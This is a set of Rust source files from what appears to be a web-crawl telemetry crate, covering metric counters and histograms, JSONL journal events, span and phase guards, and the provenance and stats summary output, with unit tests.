        let key = name.as_ptr();
        let mut cache = cache.borrow_mut();
        if let Some((_, c)) = cache.iter().find(|(k, _)| *k == key) {
            c.add(delta);
            return;
        }
        let c = global_registry().counter(name);
        c.add(delta);
        cache.push((key, c));
    });
}

/// Set a gauge (no-op unless telemetry is enabled).
#[inline]
pub fn gauge_set(name: &'static str, v: i64) {
    if enabled() {
        global_registry().gauge_set(name, v);
    }
}

/// Record a histogram observation (no-op unless telemetry is enabled).
#[inline]
pub fn observe(name: &'static str, v: u64) {
    if enabled() {
        scope::record_observe(name, v);
        global_registry().observe(name, v);
    }
}

/// Re-apply a [`ScopeMetrics::encode`]d metric delta to the global
/// registry — the crash-resume path's inverse of per-scope capture. Names
/// arrive as decoded strings, so this goes through the registry's
/// by-name (interning) lookups. Returns `false` (applying nothing) on a
/// malformed encoding; no-op when telemetry is disabled.
pub fn restore_metrics(encoded: &str) -> bool {
    let Some(entries) = decode_scope_metrics(encoded) else {
        return false;
    };
    if !enabled() {
        return true;
    }
    let reg = global_registry();
    for (kind, name, v) in entries {
        match kind {
            'c' => reg.counter_by_name(&name).add(v),
            _ => reg.histogram_by_name(&name).observe(v),
        }
    }
    true
}

/// Emit a journal event (no-op unless tracing). Inside an active visit
/// scope the event is buffered there (stamped on the scope clock);
/// otherwise it goes straight to the journal's crawl scope.
pub fn emit(ev: Event) {
    // The flight recorder sees every event, traced or not: forensic dumps
    // must explain failures in stats-only runs too.
    prof::ring_event(&ev);
    if !tracing_enabled() {
        return;
    }
    if let Some(ev) = scope::push_event(ev) {
        if let Some(j) = journal() {
            j.crawl_event(ev);
        }
    }
}

/// An open span; closes (emitting `span_close`) on drop.
pub enum SpanGuard {
    Inactive,
    Visit(u32),
    Crawl(Arc<Journal>, u32),
}

impl Drop for SpanGuard {
    fn drop(&mut self) {
        match self {
            SpanGuard::Inactive => {}
            SpanGuard::Visit(id) => scope::scope_span_close(*id),
            SpanGuard::Crawl(j, id) => j.crawl_span_close(*id),
        }
    }
}

/// Open a span named `name`: in the active visit scope if one exists on
/// this thread, else in the journal's crawl scope. Inert when tracing is
/// off.
pub fn span(name: &'static str) -> SpanGuard {
    if !tracing_enabled() {
        return SpanGuard::Inactive;
    }
    if let Some(id) = scope::scope_span_open(name) {
        return SpanGuard::Visit(id);
    }
    match journal() {
        Some(j) => {
            let id = j.crawl_span_open(name);
            SpanGuard::Crawl(j, id)
        }
        None => SpanGuard::Inactive,
    }
}

/// A named pipeline phase: a crawl-scope span plus a wall-clock timing
/// recorded into the registry on drop (for the `[stats]` summary).
pub struct PhaseGuard {
    name: &'static str,
    started: Instant,
    _span: SpanGuard,
}

/// Begin a phase (scan, classify, compare, report…). Cheap when telemetry
/// is off: one `Instant::now` and two atomic loads.
pub fn phase(name: &'static str) -> PhaseGuard {
    PhaseGuard { name, started: Instant::now(), _span: span(name) }
}

impl Drop for PhaseGuard {
    fn drop(&mut self) {
        if enabled() {
            global_registry().record_timing(self.name, self.started.elapsed());
        }
    }
}

/// Reset all global telemetry state: metrics zeroed, journal removed,
/// stats/tracing flags cleared. Tests and multi-run binaries call this at
/// run boundaries.
pub fn reset() {
    global_registry().reset();
    *JOURNAL.write().unwrap() = None;
    TRACING.store(false, Ordering::Relaxed);
    STATS.store(false, Ordering::Relaxed);
    set_scope_metrics(false);
    prof::reset_prof();
    recompute_enabled();
}

// Tests that touch process-global telemetry state (flags, registry, the
// scope-metrics gate) share one process; they serialize on this lock —
// including the scope module's own gate-flipping test.
#[cfg(test)]
pub(crate) static TEST_LOCK: std::sync::Mutex<()> = std::sync::Mutex::new(());

#[cfg(test)]
mod tests {
    use super::*;

    fn locked() -> std::sync::MutexGuard<'static, ()> {
        TEST_LOCK.lock().unwrap_or_else(|e| e.into_inner())
    }

    #[test]
    fn disabled_calls_are_noops() {
        let _g = locked();
        reset();
        add("noop.counter", 5);
        observe("noop.hist", 1);
        emit(Event::new(0, "dropped"));
        let s = span("dropped");
        assert!(matches!(s, SpanGuard::Inactive));
        drop(s);
        assert_eq!(registry().snapshot().counter("noop.counter"), 0);
        reset();
    }

    #[test]
    fn stats_enable_collects_metrics() {
        let _g = locked();
        reset();
        set_stats(true);
        add("on.counter", 2);
        assert_eq!(registry().snapshot().counter("on.counter"), 2);
        reset();
    }

    #[test]
    fn journal_routes_scope_and_crawl_events() {
        let _g = locked();
        reset();
        let j = install_journal(Journal::buffer(false));
        emit(Event::new(0, "run_start").attr("seed", 42u64));
        {
            let _p = phase("scan");
            begin_scope();
            let _v = span("visit");
            clock_advance(3);
            emit(Event::new(0, "fault").attr("kind", "hang"));
            drop(_v);
            let events = end_scope();
            j.write_visit_events(0, &events);
        }
        take_journal();
        let text = j.buffer_contents().unwrap();
        let summary = validate::validate_journal(&text).unwrap();
        assert_eq!(summary.scopes, 2, "{text}");
        assert!(text.contains(r#""scope":"crawl","ev":"run_start","seed":42"#), "{text}");
        assert!(text.contains(r#""scope":"visit:0","ev":"span_open""#), "{text}");
        assert!(text.contains(r#"{"t":3,"scope":"visit:0","ev":"fault","kind":"hang"}"#), "{text}");
        // Phase timing landed in the registry (tracing implies enabled).
        assert!(registry().timings().iter().any(|(n, _)| n == "scan"));
        reset();
    }

    #[test]
    fn captured_scope_delta_restores_to_identical_registry_state() {
        let _g = locked();
        reset();
        set_stats(true);
        set_scope_metrics(true);

        begin_scope();
        add("restore.counter", 3);
        add("restore.counter", 2);
        observe("restore.hist", 17);
        observe("restore.hist", 1);
        let delta = take_scope_metrics().expect("captured");
        end_scope();
        let live = registry().snapshot();

        // A "fresh process": zeroed registry, delta re-applied by name.
        registry().reset();
        assert!(restore_metrics(&delta.encode()));
        let restored = registry().snapshot();
        assert_eq!(live.counter("restore.counter"), 5);
        assert_eq!(restored.counters, live.counters);
        assert_eq!(restored.histograms, live.histograms);
        assert_eq!(restored.digest(), live.digest());

        assert!(!restore_metrics("garbage-without-structure"));
        reset();
    }

    #[test]
    fn fnv1a_matches_reference_vectors() {
        let _g = locked();
        assert_eq!(fnv1a(b""), 0xcbf2_9ce4_8422_2325);
        assert_eq!(fnv1a(b"a"), 0xaf63_dc4c_8601_ec8c);
    }
}
