//! Journal events and their JSONL rendering.
//!
//! Every journal line is one JSON object with a *stable* key order:
//! `t` (simulated-clock milliseconds), `scope`, `ev`, then `span`/`parent`
//! for span events, then the event's attributes in emission order, then the
//! optional `wall_ms` (only when wall-clock stamping is enabled — it breaks
//! byte-for-byte reproducibility and is therefore off by default). Stable
//! ordering is what makes journals snapshot-testable: two runs of the same
//! seeded crawl must produce byte-identical files.

use std::fmt::Write as _;

/// An attribute value: unsigned, signed, or string.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum AttrVal {
    U(u64),
    I(i64),
    S(String),
}

impl From<u64> for AttrVal {
    fn from(v: u64) -> AttrVal {
        AttrVal::U(v)
    }
}

impl From<u32> for AttrVal {
    fn from(v: u32) -> AttrVal {
        AttrVal::U(v as u64)
    }
}

impl From<usize> for AttrVal {
    fn from(v: usize) -> AttrVal {
        AttrVal::U(v as u64)
    }
}

impl From<i64> for AttrVal {
    fn from(v: i64) -> AttrVal {
        AttrVal::I(v)
    }
}

impl From<&str> for AttrVal {
    fn from(v: &str) -> AttrVal {
        AttrVal::S(v.to_string())
    }
}

impl From<String> for AttrVal {
    fn from(v: String) -> AttrVal {
        AttrVal::S(v)
    }
}

/// Span bookkeeping carried by `span_open` / `span_close` events.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum SpanMark {
    /// `span_open`: this span's id and its parent's id (0 = scope root).
    Open { id: u32, parent: u32 },
    /// `span_close`: the id being closed.
    Close { id: u32 },
}

/// One journal event, timestamped on the simulated crawl clock.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Event {
    /// Simulated-clock milliseconds within the event's scope.
    pub t_ms: u64,
    /// Event name (`span_open`, `fault`, `records`, …).
    pub ev: &'static str,
    pub span: Option<SpanMark>,
    /// Attributes in emission order (rendered in that order).
    pub attrs: Vec<(&'static str, AttrVal)>,
}

impl Event {
    pub fn new(t_ms: u64, ev: &'static str) -> Event {
        Event { t_ms, ev, span: None, attrs: Vec::new() }
    }

    pub fn attr(mut self, key: &'static str, val: impl Into<AttrVal>) -> Event {
        self.attrs.push((key, val.into()));
        self
    }

    /// Render the event as one JSON line (no trailing newline) for the
    /// given scope label, optionally stamped with a wall-clock field.
    pub fn render(&self, scope: &str, wall_ms: Option<u64>) -> String {
        let mut out = String::with_capacity(96);
        let _ = write!(out, "{{\"t\":{},\"scope\":", self.t_ms);
        push_json_string(&mut out, scope);
        out.push_str(",\"ev\":");
        push_json_string(&mut out, self.ev);
        match self.span {
            Some(SpanMark::Open { id, parent }) => {
                let _ = write!(out, ",\"span\":{id},\"parent\":{parent}");
            }
            Some(SpanMark::Close { id }) => {
                let _ = write!(out, ",\"span\":{id}");
            }
            None => {}
        }
        for (key, val) in &self.attrs {
            out.push(',');
            push_json_string(&mut out, key);
            out.push(':');
            match val {
                AttrVal::U(v) => {
                    let _ = write!(out, "{v}");
                }
                AttrVal::I(v) => {
                    let _ = write!(out, "{v}");
                }
                AttrVal::S(s) => push_json_string(&mut out, s),
            }
        }
        if let Some(w) = wall_ms {
            let _ = write!(out, ",\"wall_ms\":{w}");
        }
        out.push('}');
        out
    }
}

/// Append `s` as a JSON string literal (quoted, escaped).
pub fn push_json_string(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_stable_key_order() {
        let ev = Event::new(12, "fault").attr("kind", "hang").attr("attempt", 2u32);
        assert_eq!(
            ev.render("visit:7", None),
            r#"{"t":12,"scope":"visit:7","ev":"fault","kind":"hang","attempt":2}"#
        );
    }

    #[test]
    fn renders_span_marks() {
        let open = Event {
            t_ms: 0,
            ev: "span_open",
            span: Some(SpanMark::Open { id: 1, parent: 0 }),
            attrs: vec![("name", AttrVal::S("visit".into()))],
        };
        assert_eq!(
            open.render("visit:0", None),
            r#"{"t":0,"scope":"visit:0","ev":"span_open","span":1,"parent":0,"name":"visit"}"#
        );
        let close =
            Event { t_ms: 5, ev: "span_close", span: Some(SpanMark::Close { id: 1 }), attrs: vec![] };
        assert_eq!(
            close.render("visit:0", None),
            r#"{"t":5,"scope":"visit:0","ev":"span_close","span":1}"#
        );
    }

    #[test]
    fn escapes_strings() {
        let ev = Event::new(0, "note").attr("msg", "a\"b\\c\nd\u{1}");
        let line = ev.render("crawl", None);
        assert!(line.contains(r#""msg":"a\"b\\c\nd\u0001""#), "{line}");
    }

    #[test]
    fn wall_clock_is_optional_and_last() {
        let ev = Event::new(3, "x").attr("k", 1u64);
        assert!(ev.render("crawl", Some(99)).ends_with(",\"wall_ms\":99}"));
        assert!(!ev.render("crawl", None).contains("wall_ms"));
    }

    #[test]
    fn negative_attrs_render() {
        let ev = Event::new(0, "gauge").attr("v", -5i64);
        assert!(ev.render("crawl", None).contains("\"v\":-5"));
    }
}
