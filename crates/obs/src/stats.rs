//! Crawl statistics reporting: the human-readable `[stats]` summary and
//! the machine-readable `[provenance]` footer that every table/figure
//! binary prints next to its coverage line.
//!
//! The provenance footer answers "how was this number produced?" without
//! re-running anything: seed, a hash of the effective configuration, the
//! coverage line, and a digest of the metric snapshot. Two tables with the
//! same footer came from equivalent runs; two that differ did not.

use crate::metrics::{Registry, Snapshot};
use std::fmt::Write as _;
use std::time::Duration;

/// FNV-1a hash over `key=value` pairs — the config hash carried by
/// provenance footers. Order-sensitive by design: callers pass knobs in a
/// fixed order.
pub fn config_hash(pairs: &[(&str, String)]) -> u64 {
    let mut rendered = String::new();
    for (k, v) in pairs {
        let _ = write!(rendered, "{k}={v};");
    }
    crate::fnv1a(rendered.as_bytes())
}

/// One-line machine-readable provenance footer.
pub fn provenance_footer(
    bin: &str,
    seed: u64,
    config: u64,
    snapshot: &Snapshot,
    coverage: Option<&str>,
) -> String {
    let mut out = format!(
        "[provenance] bin={bin} seed={seed} config={config:016x} telemetry={:016x}",
        snapshot.digest()
    );
    if let Some(cov) = coverage {
        let _ = write!(out, " coverage=\"{cov}\"");
    }
    out
}

fn fmt_duration(d: Duration) -> String {
    let s = d.as_secs_f64();
    if s >= 1.0 {
        format!("{s:.2}s")
    } else {
        format!("{:.1}ms", s * 1000.0)
    }
}

fn fmt_us(us: u64) -> String {
    if us >= 1_000_000 {
        format!("{:.2}s", us as f64 / 1e6)
    } else if us >= 1_000 {
        format!("{:.1}ms", us as f64 / 1e3)
    } else {
        format!("{us}us")
    }
}

/// Render the human `[stats]` summary from a registry: wall-clock phase
/// timings with per-phase event rates, retry/restart rates derived from the
/// supervisor counters, per-instrument record counts, and the remaining
/// metrics verbatim.
pub fn render_summary(reg: &Registry) -> String {
    let snap = reg.snapshot();
    let timings = reg.timings();
    let mut out = String::new();

    let total: Duration = timings.iter().map(|(_, d)| *d).sum();
    let events: u64 = snap
        .counters
        .iter()
        .filter(|(k, _)| k.starts_with("records."))
        .map(|(_, v)| *v)
        .sum();
    if !timings.is_empty() {
        out.push_str("[stats] phase timings\n");
        for (name, d) in &timings {
            let _ = writeln!(out, "  {name:<28} {:>10}", fmt_duration(*d));
        }
        let _ = writeln!(out, "  {:<28} {:>10}", "total", fmt_duration(total));
        if events > 0 && total.as_secs_f64() > 0.0 {
            let _ = writeln!(
                out,
                "  record events/sec            {:>10.0}",
                events as f64 / total.as_secs_f64()
            );
        }
    }

    let visits = snap.counter("supervisor.visits");
    if visits > 0 {
        out.push_str("[stats] supervision\n");
        let attempts = snap.counter("supervisor.attempts");
        let retries = snap.counter("supervisor.retries");
        let restarts = snap.counter("supervisor.restarts");
        let failed = snap.counter("supervisor.visits.failed");
        let _ = writeln!(
            out,
            "  visits {visits} attempts {attempts} ({:.3} per visit)",
            attempts as f64 / visits as f64
        );
        let _ = writeln!(
            out,
            "  retries {retries} ({:.2}%) restarts {restarts} ({:.2}%) failed {failed} ({:.2}%)",
            retries as f64 * 100.0 / visits as f64,
            restarts as f64 * 100.0 / visits as f64,
            failed as f64 * 100.0 / visits as f64
        );
    }

    let record_counters: Vec<(&String, &u64)> =
        snap.counters.iter().filter(|(k, _)| k.starts_with("records.")).collect();
    if !record_counters.is_empty() {
        out.push_str("[stats] records committed\n");
        for (k, v) in record_counters {
            let _ = writeln!(out, "  {:<28} {v:>10}", &k["records.".len()..]);
        }
    }

    // Phase profile: where a visit's wall clock went, from the prof.*
    // self-time counters and per-phase histograms (digest-excluded).
    let visit_total = snap.histograms.get("prof.visit_us").map(|h| h.sum);
    let prof_selves: Vec<(&String, &u64)> =
        snap.counters.iter().filter(|(k, _)| k.starts_with("prof.self.")).collect();
    if !prof_selves.is_empty() {
        out.push_str("[stats] phase profile (wall clock, digest-excluded)\n");
        for (k, self_us) in prof_selves {
            let name = &k["prof.self.".len()..];
            let hist = snap.histograms.get(&format!("prof.{name}_us"));
            let (count, p50, p99) = hist
                .map(|h| (h.count, h.quantile(0.50), h.quantile(0.99)))
                .unwrap_or_default();
            let share = visit_total
                .filter(|t| *t > 0)
                .map(|t| format!("{:>5.1}%", *self_us as f64 * 100.0 / t as f64))
                .unwrap_or_else(|| "     -".to_string());
            let _ = writeln!(
                out,
                "  {name:<20} n={count:<8} p50={:<9} p99={:<9} self={:<10} {share}",
                fmt_us(p50),
                fmt_us(p99),
                fmt_us(*self_us),
            );
        }
    }

    // Static-matcher effort: scan volume, automaton candidate→confirm
    // funnel, and the verdict-memo hit rate (digest-excluded).
    let match_scripts = snap.counter("match.scripts");
    if match_scripts > 0 {
        out.push_str("[stats] static matcher (digest-excluded)\n");
        let _ = writeln!(
            out,
            "  scripts {match_scripts} bytes {} patterns {}",
            snap.counter("match.bytes"),
            snap.counter("match.patterns"),
        );
        let cand = snap.counter("match.candidate_hits");
        let conf = snap.counter("match.confirmed_hits");
        if cand > 0 {
            let _ = writeln!(
                out,
                "  candidates {cand} confirmed {conf} ({:.1}%)",
                conf as f64 * 100.0 / cand as f64
            );
        }
        let hits = snap.counter("match.memo.hit");
        let misses = snap.counter("match.memo.miss");
        if hits + misses > 0 {
            let _ = writeln!(
                out,
                "  memo hits {hits} misses {misses} ({:.1}% hit rate)",
                hits as f64 * 100.0 / (hits + misses) as f64
            );
        }
    }

    // Latency quantiles for every `*_us` histogram, via
    // `HistogramSnapshot::quantile` (bucket midpoints).
    let latency: Vec<_> = snap.histograms.iter().filter(|(k, _)| k.ends_with("_us")).collect();
    if !latency.is_empty() {
        out.push_str("[stats] latency quantiles\n");
        for (name, h) in latency {
            let _ = writeln!(
                out,
                "  {name:<28} n={:<8} p50={:<9} p90={:<9} p99={}",
                h.count,
                fmt_us(h.quantile(0.50)),
                fmt_us(h.quantile(0.90)),
                fmt_us(h.quantile(0.99)),
            );
        }
    }

    out.push_str("[stats] metrics\n");
    for line in snap.render().lines() {
        let _ = writeln!(out, "  {line}");
    }
    let _ = writeln!(out, "[stats] telemetry digest {:016x}", snap.digest());
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn config_hash_is_order_and_value_sensitive() {
        let a = config_hash(&[("seed", "42".into()), ("sites", "100".into())]);
        let b = config_hash(&[("sites", "100".into()), ("seed", "42".into())]);
        let c = config_hash(&[("seed", "43".into()), ("sites", "100".into())]);
        assert_ne!(a, b);
        assert_ne!(a, c);
        assert_eq!(a, config_hash(&[("seed", "42".into()), ("sites", "100".into())]));
    }

    #[test]
    fn footer_carries_all_fields() {
        let reg = Registry::new();
        reg.add("x", 3);
        let snap = reg.snapshot();
        let f = provenance_footer("table05", 42, 0xabcd, &snap, Some("100/100 sites"));
        assert!(f.starts_with("[provenance] bin=table05 seed=42 config=000000000000abcd"));
        assert!(f.contains("telemetry="));
        assert!(f.ends_with("coverage=\"100/100 sites\""));
    }

    #[test]
    fn summary_renders_phase_profile_and_quantiles() {
        let reg = Registry::new();
        reg.observe("prof.visit_us", 1_000);
        reg.add("prof.self.visit", 700);
        reg.observe("prof.jsengine.interp_us", 300);
        reg.add("prof.self.jsengine.interp", 300);
        reg.observe("sched.visit_wall_us", 1_200);
        let s = render_summary(&reg);
        assert!(s.contains("[stats] phase profile"), "{s}");
        assert!(s.contains("jsengine.interp"), "{s}");
        assert!(s.contains("[stats] latency quantiles"), "{s}");
        assert!(s.contains("sched.visit_wall_us"), "{s}");
        assert!(s.contains("p90="), "{s}");
        assert!(s.contains("%"), "phase shares must render: {s}");
    }

    #[test]
    fn summary_renders_static_matcher_section() {
        let reg = Registry::new();
        reg.add("match.scripts", 40);
        reg.add("match.bytes", 12_345);
        reg.add("match.patterns", 6);
        reg.add("match.candidate_hits", 10);
        reg.add("match.confirmed_hits", 5);
        reg.add("match.memo.hit", 30);
        reg.add("match.memo.miss", 10);
        let s = render_summary(&reg);
        assert!(s.contains("[stats] static matcher"), "{s}");
        assert!(s.contains("scripts 40 bytes 12345 patterns 6"), "{s}");
        assert!(s.contains("candidates 10 confirmed 5 (50.0%)"), "{s}");
        assert!(s.contains("memo hits 30 misses 10 (75.0% hit rate)"), "{s}");
        // And none of it reaches the digest.
        assert_eq!(reg.snapshot().digest(), Registry::new().snapshot().digest());
    }

    #[test]
    fn summary_reports_supervision_rates() {
        let reg = Registry::new();
        reg.add("supervisor.visits", 100);
        reg.add("supervisor.attempts", 120);
        reg.add("supervisor.retries", 15);
        reg.add("supervisor.restarts", 5);
        reg.add("records.js_calls", 400);
        reg.record_timing("scan", Duration::from_secs(2));
        let s = render_summary(&reg);
        assert!(s.contains("phase timings"), "{s}");
        assert!(s.contains("1.200 per visit"), "{s}");
        assert!(s.contains("retries 15 (15.00%)"), "{s}");
        assert!(s.contains("js_calls"), "{s}");
        assert!(s.contains("telemetry digest"), "{s}");
    }
}
