//! The metrics registry: named counters, gauges and log-bucketed
//! histograms with atomic, lock-free hot paths.
//!
//! Registration takes a write lock once per metric name; after that every
//! update is a single atomic RMW on a shared `Arc`. Counters are
//! additionally **striped**: a [`ShardedCounter`] spreads increments over
//! cache-line-padded stripes (one picked per thread) so eight workers
//! bumping `manager.items` don't serialise on one cache line; stripes are
//! folded back into a single value at snapshot time, so the `BTreeMap`
//! snapshot API and the telemetry digest are unchanged. Snapshots render
//! into `BTreeMap`s so their text form (and hence the digest printed in
//! provenance footers) is byte-stable across runs: counters and histograms
//! are pure sums, so a deterministic workload produces the same snapshot
//! no matter how many worker threads updated them.
//!
//! Wall-clock phase timings are deliberately kept in a separate side table
//! ([`Registry::timings`]) that is *excluded* from [`Snapshot`] and its
//! digest: wall time is never deterministic, and the digest must be.

use std::collections::{BTreeMap, HashMap};
use std::sync::atomic::{AtomicI64, AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, RwLock};
use std::time::Duration;

/// Stripes per [`ShardedCounter`] — enough that a typical worker fleet
/// maps to distinct stripes, small enough to stay cheap to fold.
pub const COUNTER_STRIPES: usize = 16;

/// One cache line worth of counter, so neighbouring stripes never
/// false-share.
#[derive(Debug, Default)]
#[repr(align(64))]
struct PaddedU64(AtomicU64);

/// Round-robin stripe assignment: each thread picks a stripe once and
/// keeps it for life, so a worker's increments always hit the same line.
static NEXT_STRIPE: AtomicUsize = AtomicUsize::new(0);

fn stripe_id() -> usize {
    thread_local! {
        static STRIPE: usize =
            NEXT_STRIPE.fetch_add(1, Ordering::Relaxed) % COUNTER_STRIPES;
    }
    STRIPE.with(|s| *s)
}

/// A counter whose increments land on a per-thread stripe and whose value
/// is the fold of all stripes. Handles are cheap to clone and safe to
/// cache across [`Registry::reset`] (reset zeroes stripes in place).
#[derive(Debug)]
pub struct ShardedCounter {
    stripes: [PaddedU64; COUNTER_STRIPES],
}

impl Default for ShardedCounter {
    fn default() -> ShardedCounter {
        ShardedCounter { stripes: std::array::from_fn(|_| PaddedU64::default()) }
    }
}

impl ShardedCounter {
    /// Bump this thread's stripe.
    #[inline]
    pub fn add(&self, delta: u64) {
        self.stripes[stripe_id()].0.fetch_add(delta, Ordering::Relaxed);
    }

    /// Fold the stripes into the counter's value.
    pub fn sum(&self) -> u64 {
        self.stripes.iter().map(|s| s.0.load(Ordering::Relaxed)).sum()
    }

    fn reset(&self) {
        for s in &self.stripes {
            s.0.store(0, Ordering::Relaxed);
        }
    }
}

/// Number of log2 buckets in a histogram (values are u64, so 65 covers
/// zero plus every power-of-two magnitude).
pub const HISTOGRAM_BUCKETS: usize = 65;

/// A log-bucketed histogram: bucket `0` counts zeros, bucket `k` counts
/// values in `[2^(k-1), 2^k)`.
#[derive(Debug)]
pub struct Histogram {
    buckets: [AtomicU64; HISTOGRAM_BUCKETS],
    count: AtomicU64,
    sum: AtomicU64,
}

impl Default for Histogram {
    fn default() -> Histogram {
        Histogram {
            buckets: std::array::from_fn(|_| AtomicU64::new(0)),
            count: AtomicU64::new(0),
            sum: AtomicU64::new(0),
        }
    }
}

/// Bucket index for a value: 0 for 0, else `64 - leading_zeros(v)`.
pub fn bucket_of(v: u64) -> usize {
    (u64::BITS - v.leading_zeros()) as usize
}

impl Histogram {
    pub fn observe(&self, v: u64) {
        self.buckets[bucket_of(v)].fetch_add(1, Ordering::Relaxed);
        self.count.fetch_add(1, Ordering::Relaxed);
        self.sum.fetch_add(v, Ordering::Relaxed);
    }

    pub fn snapshot(&self) -> HistogramSnapshot {
        let buckets: Vec<(usize, u64)> = self
            .buckets
            .iter()
            .enumerate()
            .map(|(i, b)| (i, b.load(Ordering::Relaxed)))
            .filter(|(_, n)| *n > 0)
            .collect();
        HistogramSnapshot {
            count: self.count.load(Ordering::Relaxed),
            sum: self.sum.load(Ordering::Relaxed),
            buckets,
        }
    }

    fn reset(&self) {
        for b in &self.buckets {
            b.store(0, Ordering::Relaxed);
        }
        self.count.store(0, Ordering::Relaxed);
        self.sum.store(0, Ordering::Relaxed);
    }
}

/// Frozen view of one histogram; only non-empty buckets are kept.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct HistogramSnapshot {
    pub count: u64,
    pub sum: u64,
    /// `(bucket index, count)` for non-empty buckets, ascending.
    pub buckets: Vec<(usize, u64)>,
}

impl HistogramSnapshot {
    pub fn mean(&self) -> f64 {
        if self.count == 0 {
            0.0
        } else {
            self.sum as f64 / self.count as f64
        }
    }

    /// Approximate quantile `q` in `[0, 1]` from the log2 buckets: the
    /// midpoint of the bucket holding the `ceil(q·count)`-th observation.
    /// Resolution is the bucket width (a factor of two) — plenty for the
    /// p50/p99 latency lines in bench output, not for microbenchmarks.
    pub fn quantile(&self, q: f64) -> u64 {
        if self.count == 0 {
            return 0;
        }
        let target = ((q * self.count as f64).ceil() as u64).clamp(1, self.count);
        let mut seen = 0u64;
        for &(b, n) in &self.buckets {
            seen += n;
            if seen >= target {
                if b == 0 {
                    return 0;
                }
                let lo = 1u64 << (b - 1);
                let hi = if b >= 64 { u64::MAX } else { 1u64 << b };
                return lo + (hi - lo) / 2;
            }
        }
        // Unreachable when count == Σ bucket counts; be defensive.
        self.buckets.last().map(|&(b, _)| 1u64 << (b.min(63))).unwrap_or(0)
    }
}

/// Frozen, ordered view of the whole registry — the deterministic part.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Snapshot {
    pub counters: BTreeMap<String, u64>,
    pub gauges: BTreeMap<String, i64>,
    pub histograms: BTreeMap<String, HistogramSnapshot>,
}

/// Metric-name prefixes for values that reflect scheduling and caching
/// luck rather than the modelled crawl: compile-cache hit/miss counts
/// change with worker interleaving and process-level cache warmth,
/// archive bookkeeping depends on whether a run records, replays, or does
/// neither, the work-stealing scheduler's effort counters (steals,
/// chunk claims, idle spins, wall latency) depend on worker count and OS
/// scheduling, checkpoint I/O accounting depends on whether (and where) a
/// run was interrupted, the `crash.*` recovery counters exist only on
/// resumed runs, the `prof.*` phase-profiler metrics are wall-clock
/// measurements by definition, and the `match.*` static-matcher metrics
/// include a verdict-memo hit/miss split that moves with which worker
/// first sees a shared script body. These metrics appear in [`Snapshot::render`] and the
/// `[stats]` summary, but are excluded from
/// [`Snapshot::render_deterministic`] and the telemetry
/// [`Snapshot::digest`] — the digest must be byte-identical with the
/// compile cache on and off, at any worker count, between a live run and
/// its archive replay, and between an uninterrupted crawl and one that
/// crashed and resumed.
pub const NONDETERMINISTIC_PREFIXES: &[&str] =
    &["cache.", "archive.", "sched.", "checkpoint.", "crash.", "prof.", "match."];

impl Snapshot {
    fn render_where(&self, include: impl Fn(&str) -> bool) -> String {
        let mut out = String::new();
        for (name, v) in &self.counters {
            if include(name) {
                out.push_str(&format!("counter {name} {v}\n"));
            }
        }
        for (name, v) in &self.gauges {
            if include(name) {
                out.push_str(&format!("gauge {name} {v}\n"));
            }
        }
        for (name, h) in &self.histograms {
            if !include(name) {
                continue;
            }
            out.push_str(&format!("histogram {name} count={} sum={} buckets=", h.count, h.sum));
            for (i, (b, n)) in h.buckets.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                out.push_str(&format!("{b}:{n}"));
            }
            out.push('\n');
        }
        out
    }

    /// Stable text rendering (one line per metric, BTreeMap order).
    pub fn render(&self) -> String {
        self.render_where(|_| true)
    }

    /// [`Snapshot::render`] minus the [`NONDETERMINISTIC_PREFIXES`]
    /// metrics: a function of (seed, fault plan) alone.
    pub fn render_deterministic(&self) -> String {
        self.render_where(|name| !NONDETERMINISTIC_PREFIXES.iter().any(|p| name.starts_with(p)))
    }

    /// FNV-1a digest of the deterministic rendering — the telemetry digest
    /// carried by provenance footers.
    pub fn digest(&self) -> u64 {
        crate::fnv1a(self.render_deterministic().as_bytes())
    }

    pub fn counter(&self, name: &str) -> u64 {
        self.counters.get(name).copied().unwrap_or(0)
    }
}

/// The metrics registry. One global instance lives behind
/// [`crate::registry`]; tests may build private ones.
#[derive(Debug, Default)]
pub struct Registry {
    counters: RwLock<HashMap<&'static str, Arc<ShardedCounter>>>,
    gauges: RwLock<HashMap<&'static str, Arc<AtomicI64>>>,
    histograms: RwLock<HashMap<&'static str, Arc<Histogram>>>,
    /// Wall-clock phase timings `(name, duration)`, in completion order.
    /// Non-deterministic by nature; excluded from snapshots and digests.
    timings: Mutex<Vec<(String, Duration)>>,
}

impl Registry {
    pub fn new() -> Registry {
        Registry::default()
    }

    /// Handle to a named counter (registering it on first use). Callers on
    /// hot paths should hold the handle rather than re-looking it up; the
    /// handle stays valid across [`Registry::reset`].
    pub fn counter(&self, name: &'static str) -> Arc<ShardedCounter> {
        if let Some(c) = self.counters.read().unwrap().get(name) {
            return c.clone();
        }
        self.counters.write().unwrap().entry(name).or_default().clone()
    }

    pub fn gauge(&self, name: &'static str) -> Arc<AtomicI64> {
        if let Some(g) = self.gauges.read().unwrap().get(name) {
            return g.clone();
        }
        self.gauges.write().unwrap().entry(name).or_default().clone()
    }

    pub fn histogram(&self, name: &'static str) -> Arc<Histogram> {
        if let Some(h) = self.histograms.read().unwrap().get(name) {
            return h.clone();
        }
        self.histograms.write().unwrap().entry(name).or_default().clone()
    }

    /// [`Registry::counter`] for a name that is not a `'static` literal —
    /// the crash-resume path restores metric deltas whose names arrive as
    /// strings decoded from a checkpoint. Lookup is content-based (so the
    /// handle is shared with literal-keyed callers); a genuinely new name
    /// is interned once. The metric namespace is small and closed, so the
    /// leak is bounded.
    pub fn counter_by_name(&self, name: &str) -> Arc<ShardedCounter> {
        if let Some(c) = self.counters.read().unwrap().get(name) {
            return c.clone();
        }
        let interned: &'static str = Box::leak(name.to_string().into_boxed_str());
